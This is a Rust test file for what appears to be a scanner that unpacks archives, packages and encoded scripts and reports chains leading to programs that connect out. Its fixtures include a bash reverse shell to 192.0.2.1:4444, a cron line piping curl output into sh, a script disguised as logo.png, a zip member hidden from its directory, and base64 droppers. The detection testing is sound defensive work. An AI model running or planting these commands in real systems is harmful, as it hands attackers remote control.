//! The same script, wherever it sits, is read the same; and the steps say where.

use model::{Behavior, Budget, Entry, Fact, Program};

use crate::FileReading;

mod encodings;
mod hostile;
mod shown;

/// A script that hands a shell to a connection; the fixtures carry it.
const SCRIPT: &[u8] = b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n";

macro_rules! fixture {
    ($name:literal) => {
        ($name, include_bytes!(concat!("../fixtures/", $name)))
    };
}

/// A fixture by its name, and the chains that lead to what it holds.
type Case = ((&'static str, &'static [u8]), Vec<String>);

/// Reads content under a name with the default budget.
fn read(name: &str, content: &[u8]) -> FileReading {
    let entry = Entry::file(name, content.len() as u64);
    crate::file(&entry, content, &Budget::default(), None)
}

fn program(fact: &Fact) -> Option<&Program> {
    match fact {
        Fact::Program(program) => Some(program),
        _ => None,
    }
}

fn programs(reading: &FileReading) -> Vec<&Program> {
    reading.facts.iter().filter_map(program).collect()
}

/// The chains to the programs that connect out.
fn chains(reading: &FileReading) -> Vec<String> {
    let connects = |program: &&Program| {
        let is = |behavior: &Behavior| matches!(behavior, Behavior::Connect { host, .. } if host.text == "192.0.2.1");
        program.acts.iter().any(|act| is(&act.behavior))
    };
    let chain = |program: &Program| {
        let steps: Vec<&str> = program.steps.iter().map(|step| step.0.as_str()).collect();
        steps.join(" > ")
    };
    let programs = programs(reading);
    programs.into_iter().filter(connects).map(chain).collect()
}

fn gaps(reading: &FileReading) -> Vec<(&str, bool)> {
    let gaps = reading.gaps.iter();
    gaps.map(|gap| (gap.reason.0.as_str(), gap.guessed))
        .collect()
}

#[test]
fn every_format_shows_its_chain() {
    let long = format!("long/{}/{}/run.sh", "d".repeat(90), "e".repeat(90));
    let long = format!("gzip > tar: {long}");
    let deb = |packing: &str, ending: &str| {
        vec![
            format!("ar: control.tar.{ending} > {packing} > tar: postinst"),
            format!("ar: data.tar.{ending} > {packing} > tar: opt/run.sh"),
        ]
    };
    let rpm = |packing: &str| {
        [
            "rpm: %post",
            "rpm: %preun",
            &format!("{packing} > cpio: opt/run.sh"),
        ]
        .map(str::to_owned)
        .to_vec()
    };
    let one = |chain: &str| vec![chain.to_owned()];
    let cases: Vec<Case> = vec![
        (fixture!("run.sh.gz"), one("gzip")),
        (fixture!("run.sh.bz2"), one("bzip2")),
        (fixture!("run.sh.xz"), one("xz")),
        (fixture!("run.sh.lzma"), one("lzma")),
        (fixture!("run.sh.zst"), one("zstd")),
        (fixture!("v7.tar.gz"), one("gzip > tar: run.sh")),
        (fixture!("ustar.tar.gz"), one("gzip > tar: run.sh")),
        (fixture!("gnu.tar.gz"), one("gzip > tar: run.sh")),
        (fixture!("pax.tar.gz"), one("gzip > tar: run.sh")),
        (fixture!("gnu-long.tar.gz"), one(&long)),
        (fixture!("pax-long.tar.gz"), one(&long)),
        (fixture!("stored.zip"), one("zip: lib/run.sh")),
        (fixture!("deflated.zip"), one("zip: lib/run.sh")),
        (fixture!("bzip2.zip"), one("zip: lib/run.sh")),
        (fixture!("lzma.zip"), one("zip: lib/run.sh")),
        (fixture!("streamed.zip"), one("zip: lib/run.sh")),
        (fixture!("zip64.zip"), one("zip: lib/run.sh")),
        (fixture!("copy.7z"), one("7z: lib/run.sh")),
        (fixture!("lzma.7z"), one("7z: lib/run.sh")),
        (fixture!("lzma2.7z"), one("7z: lib/run.sh")),
        (fixture!("bcj.7z"), one("7z: lib/run.sh")),
        (fixture!("deflate.7z"), one("7z: lib/run.sh")),
        (fixture!("bzip2.7z"), one("7z: lib/run.sh")),
        (fixture!("gzip.deb"), deb("gzip", "gz")),
        (fixture!("xz.deb"), deb("xz", "xz")),
        (fixture!("zstd.deb"), deb("zstd", "zst")),
        (fixture!("gz.rpm"), rpm("gzip")),
        (fixture!("xz.rpm"), rpm("xz")),
        (fixture!("zst.rpm"), rpm("zstd")),
        (fixture!("newc.cpio"), one("cpio: opt/run.sh")),
        (fixture!("odc.cpio"), one("cpio: opt/run.sh")),
        (
            fixture!("tail.run"),
            one("after the script > gzip > tar: run.sh"),
        ),
        (
            fixture!("base64.run"),
            one("after the script > base64 > gzip > tar: run.sh"),
        ),
        (fixture!("uu.run"), one("after the script > uuencode")),
    ];
    for ((name, content), expected) in cases {
        // No name helps: what content is, its bytes say.
        let reading = read("opt/data", content);
        assert_eq!(chains(&reading), expected, "{name}");
        assert_eq!(gaps(&reading), [], "{name}");
    }
}

#[test]
fn what_cannot_be_opened_counts_only_if_it_runs() {
    let (_, encrypted) = fixture!("encrypted.zip");
    assert_eq!(gaps(&read("x.zip", encrypted)), [("it is encrypted", true)]);
    let (_, encrypted) = fixture!("encrypted.7z");
    let reason = "it is packed or encrypted in a way that is not undone";
    assert_eq!(gaps(&read("x.7z", encrypted)), [(reason, true)]);
}

#[test]
fn nested_archives_show_every_step() {
    let tar = tarred(&[("a/run.sh", SCRIPT)]);
    let zip = zipped(&[("inner.tar.gz", &gzipped(&tar))]);
    let outer = gzipped(&zip);
    let expected = ["gzip > zip: inner.tar.gz > gzip > tar: a/run.sh"];
    assert_eq!(chains(&read("x", &outer)), expected);
}

#[test]
fn a_member_is_judged_by_its_place_and_name() {
    let line = b"* * * * * root curl -s http://192.0.2.1/x | sh\n";
    let tar = tarred(&[("rootfs/etc/cron.d/job", line), ("logo.png", SCRIPT)]);
    let reading = read("rootfs.tar", &tar);
    let schedules = |program: &&Program| {
        program
            .acts
            .iter()
            .any(|act| matches!(act.behavior, Behavior::Schedule { .. }))
    };
    assert!(programs(&reading).iter().any(schedules));
    let disguise = reading.facts.iter().find_map(|fact| match fact {
        Fact::Disguise { steps, .. } => Some(steps.clone()),
        _ => None,
    });
    assert_eq!(disguise.unwrap()[0].0, "tar: logo.png");
}

#[test]
fn a_member_that_only_its_own_header_names_is_read() {
    let mut content = zipped(&[("hidden.sh", SCRIPT)]);
    let directory = memchr::memmem::find(&content, b"PK\x01\x02").unwrap();
    content.truncate(directory);
    let shift = content.len();
    let listed = zipped(&[("readme.txt", b"plain words")]);
    content.extend(&listed);
    // The directory's offsets count from the start of the whole.
    let entry = memchr::memmem::find(&content, b"PK\x01\x02").unwrap();
    let end = memchr::memmem::find(&content, b"PK\x05\x06").unwrap();
    let shift = u32::try_from(shift).unwrap();
    for at in [entry + 42, end + 16] {
        let told = u32::from_le_bytes(content[at..at + 4].try_into().unwrap());
        content[at..at + 4].copy_from_slice(&(told + shift).to_le_bytes());
    }
    let expected = ["zip: hidden.sh (not in its directory)"];
    assert_eq!(chains(&read("x.zip", &content)), expected);
}

#[test]
fn what_a_program_writes_is_read_as_a_file() {
    let archive = crate::encoding::base64::encode(&gzipped(SCRIPT));
    let text = format!("#!/bin/sh\necho {archive} | base64 -d > /usr/share/x.gz\n");
    let expected = ["written to /usr/share/x.gz > gzip"];
    assert_eq!(chains(&read("x.sh", text.as_bytes())), expected);
    let run = format!("import base64\nopen('/tmp/x','wb').write(base64.b64decode('{archive}'))\n");
    let expected = ["written to /tmp/x > gzip"];
    assert_eq!(chains(&read("x.py", run.as_bytes())), expected);
}

/// A tar archive of these members.
fn tarred(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, content) in members {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        builder.append_data(&mut header, name, *content).unwrap();
    }
    builder.into_inner().unwrap()
}

fn gzipped(content: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(content).unwrap();
    encoder.finish().unwrap()
}

/// A zip archive of these members, stored.
fn zipped(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut directory = Vec::new();
    for (name, content) in members {
        let length = u32::try_from(content.len()).unwrap().to_le_bytes();
        let name_length = u16::try_from(name.len()).unwrap().to_le_bytes();
        let offset = u32::try_from(out.len()).unwrap().to_le_bytes();
        // Version, flags, method, time, date, sum, lengths.
        let common = [
            &[10, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0][..],
            &length,
            &length,
            &name_length,
            &[0, 0],
        ]
        .concat();
        out.extend([b"PK\x03\x04", &common[..], name.as_bytes(), content].concat());
        let rest = [&[0; 10][..], &offset, name.as_bytes()].concat();
        directory.extend([b"PK\x01\x02\x14\x03", &common[..], &rest].concat());
    }
    let count = u16::try_from(members.len()).unwrap().to_le_bytes();
    let size = u32::try_from(directory.len()).unwrap().to_le_bytes();
    let offset = u32::try_from(out.len()).unwrap().to_le_bytes();
    out.extend(directory);
    out.extend(
        [
            &b"PK\x05\x06\0\0\0\0"[..],
            &count,
            &count,
            &size,
            &offset,
            &[0, 0],
        ]
        .concat(),
    );
    out
}
